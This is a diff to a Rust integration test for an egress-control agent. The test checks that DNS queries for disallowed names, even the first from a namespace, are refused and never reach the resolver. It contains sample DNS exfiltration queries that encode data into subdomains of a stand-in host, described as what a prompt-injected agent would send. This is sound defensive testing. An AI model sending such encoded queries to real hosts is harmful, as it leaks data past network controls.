@@ -1,7 +1,7 @@
-//! DNS over UDP through the agent's gate in the workload's namespace: once
-//! the gate is open there (on the first query from that namespace), a query
-//! for a name the policy does not allow is answered by the gate and never
-//! reaches the resolver (no tunnelling through it), while allowed names
+//! DNS over UDP through the agent's gate in the workload's namespace: a
+//! query for a name the policy does not allow, the namespace's very first
+//! included (caught on loopback before the gate there is open), is answered
+//! by the agent and never reaches the resolver (no tunnelling through it), while allowed names
 //! resolve, are learned before the answer arrives, and the workload sees
 //! the resolver's address as the source (IPv4 and IPv6 resolvers).
 
@@ -21,7 +21,7 @@ fn queries_for(bench: &Bench, name: &str) -> usize {
 }
 
 #[test]
-fn refused_names_never_reach_the_resolver_once_the_gate_is_open() {
+fn refused_names_never_reach_the_resolver_not_even_the_first() {
     if !require_root() {
         return;
     }
@@ -36,10 +36,11 @@ dns:
     // Data smuggled in a name, as a prompt-injected agent would.
     let leak = "c2vjcmv0lwtles0xmjm0.exfil.example.test";
     let r = Exec::new(&bench).policy(policy).steps(&[
-        // The first query from the pod's namespace opens its gates.
+        // The very first query from the pod's namespace, which has no gate
+        // yet: caught on loopback, the agent opens the gates and answers.
+        ("leak", &format!("{DIG} {leak} TXT")),
         ("first", &format!("{DIG} +short api.example.test A")),
         ("other", &format!("{DIG} other.example.test A")),
-        ("leak", &format!("{DIG} {leak} TXT")),
         ("other-v6", &format!("{DIG} @2001:db8:53::53 other.example.test AAAA")),
         ("allowed", &format!("{DIG} +short api.example.test A")),
         ("allowed-v6", &format!("{DIG} +short @2001:db8:53::53 api.example.test AAAA")),
@@ -52,7 +53,7 @@ dns:
     r.ok("first", "203.0.113.10\n");
     for step in ["other", "leak", "other-v6"] {
         let st = r.get(step);
-        assert_eq!(st.code, 0, "{st:?}");
+        assert_eq!(st.code, 0, "{st:?}\n{}", r.outcome.ran.stderr);
         assert!(st.stdout.contains("status: NXDOMAIN"), "{st:?}");
         // dig warns when an answer comes from another address than asked.
         assert!(!st.stdout.contains("unexpected source"), "{st:?}");
@@ -70,7 +71,62 @@ dns:
     assert_eq!(queries_for(&bench, "exfil.example.test"), 0, "a refused query reached the resolver");
     assert!(queries_for(&bench, "api.example.test") >= 4, "allowed queries do reach it");
     let log = r.log();
-    for (dst, host) in [("198.51.100.53", "other.example.test"), ("198.51.100.53", leak), ("2001:db8:53::53", "other.example.test")] {
+    for (dst, host) in
+        [("198.51.100.53", "other.example.test"), ("198.51.100.53", leak), ("2001:db8:53::53", "other.example.test")]
+    {
         log.expect(dst, 53, &[("reason", s("denied-dns-name")), ("host", s(host)), ("comm", s("dig"))]);
     }
+}
+
+/// Stub resolvers on unconnected sockets (musl, dnspython: `sendto`) from a
+/// namespace with no gate yet: the datagram goes to the namespace's
+/// loopback sink, the agent answers it as the resolver (the source those
+/// resolvers check), and a refused name never reaches the resolver. One
+/// agent run per family: the first query opens the gates for both.
+#[test]
+fn unconnected_first_queries_are_caught_too() {
+    if !require_root() {
+        return;
+    }
+    let bench = Bench::start().unwrap();
+    let policy = r#"
+egress:
+  - toFQDNs: [{matchName: api.example.test}]
+    ports: [{port: 443}]
+dns:
+  servers: ["198.51.100.53", "2001:db8:53::53"]
+"#;
+    let cases = [
+        ("198.51.100.53", "A", "mfrggzdfmztwq2lk.v4.exfil.example.test", "203.0.113.10", "203.0.113.10 443"),
+        (
+            "2001:db8:53::53",
+            "AAAA",
+            "mfrggzdfmztwq2lk.v6.exfil.example.test",
+            "2001:db8:100::10",
+            "2001:db8:100::10 443",
+        ),
+    ];
+    for (resolver, qtype, leak, ip, target) in cases {
+        let r = Exec::new(&bench).policy(policy).steps(&[
+            ("leak", &format!("$PY $DNSQ {resolver} {leak} --type {qtype} --unconnected --wait 0.2")),
+            ("allowed", &format!("$PY $DNSQ {resolver} api.example.test --type {qtype} --unconnected --wait 0.2")),
+            ("connect", &format!("$PY $SOCK tcp {target}")),
+        ]);
+        r.outcome.expect_code(0);
+        for (step, rcode) in [("leak", 3), ("allowed", 0)] {
+            let st = r.get(step);
+            let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
+            let a = &v["answer"];
+            assert_eq!(a["rcode"], rcode, "{resolver}: {v}");
+            assert_eq!(a["id_ok"], true, "{resolver}: {v}");
+            assert_eq!(a["from_ok"], true, "{resolver}: the answer must come from the resolver: {v}");
+            if step == "allowed" {
+                assert_eq!(a["ips"][0], ip, "{resolver}: {v}");
+            }
+        }
+        assert_eq!(r.sock("connect")["ok"], true, "{resolver}: the caught answer was learned from");
+        assert_eq!(queries_for(&bench, leak), 0, "{resolver}: a refused first query reached the resolver");
+        r.log().expect(resolver, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
+    }
+    assert!(queries_for(&bench, "api.example.test") >= 2, "allowed queries do reach it");
 }
